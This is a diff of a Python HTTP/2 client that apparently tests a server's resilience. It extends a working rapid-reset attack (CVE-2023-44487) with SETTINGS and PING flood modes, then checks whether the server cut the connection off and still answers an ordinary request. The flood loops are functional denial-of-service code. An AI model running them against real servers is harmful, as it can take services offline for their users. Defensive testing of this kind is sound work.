@@ -1,12 +1,13 @@
-"""An HTTP/2 rapid-reset client (CVE-2023-44487), written with the independent `h2` library.
+"""Abusive HTTP/2 clients, written with the independent `h2` library.
 
-Usage: h2_rapid_reset.py PORT PATH COUNT
+Usage: h2_abuse.py MODE PORT PATH COUNT
 
-On one h2c connection it opens COUNT streams, resetting each right after its HEADERS, as fast
-as it can; then, on a second connection, it makes one ordinary request. It prints one JSON
-object: how many streams it opened before the server cut it off, whether the server sent
-GOAWAY (and its error code), whether the connection was closed, and the status of the
-ordinary request.
+MODE `reset`: rapid reset (CVE-2023-44487) — on one h2c connection open COUNT streams,
+resetting each right after its HEADERS, as fast as possible. MODE `settings` / `ping`: send
+COUNT SETTINGS / PING frames in a loop (control-frame floods). Then, on a second connection,
+make one ordinary request. Prints one JSON object: how many frames it sent before the server
+cut it off (`opened`), whether the server sent GOAWAY (and its error code), whether the
+connection was closed, and the status of the ordinary request.
 """
 import json
 import socket
@@ -16,6 +17,7 @@ import h2.config
 import h2.connection
 import h2.events
 import h2.exceptions
+import h2.settings
 
 
 def connect(port):
@@ -50,14 +52,19 @@ def drain(sock, conn, result):
         sock.setblocking(True)
 
 
-def rapid_reset(port, path, count):
+def abuse(mode, port, path, count):
     sock, conn = connect(port)
     result = {"opened": 0, "goaway": None, "closed": False}
     try:
-        for _ in range(count):
-            stream = conn.get_next_available_stream_id()
-            conn.send_headers(stream, headers(port, path), end_stream=True)
-            conn.reset_stream(stream)
+        for index in range(count):
+            if mode == "reset":
+                stream = conn.get_next_available_stream_id()
+                conn.send_headers(stream, headers(port, path), end_stream=True)
+                conn.reset_stream(stream)
+            elif mode == "settings":
+                conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535 + index % 2})
+            else:
+                conn.ping(index.to_bytes(8, "big"))
             sock.sendall(conn.data_to_send())
             result["opened"] += 1
             drain(sock, conn, result)
@@ -109,8 +116,8 @@ def ordinary_request(port, path):
 
 
 def main():
-    port, path, count = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
-    result = rapid_reset(port, path, count)
+    mode, port, path, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
+    result = abuse(mode, port, path, count)
     result["ordinaryStatus"] = ordinary_request(port, path)
     print(json.dumps(result))
 
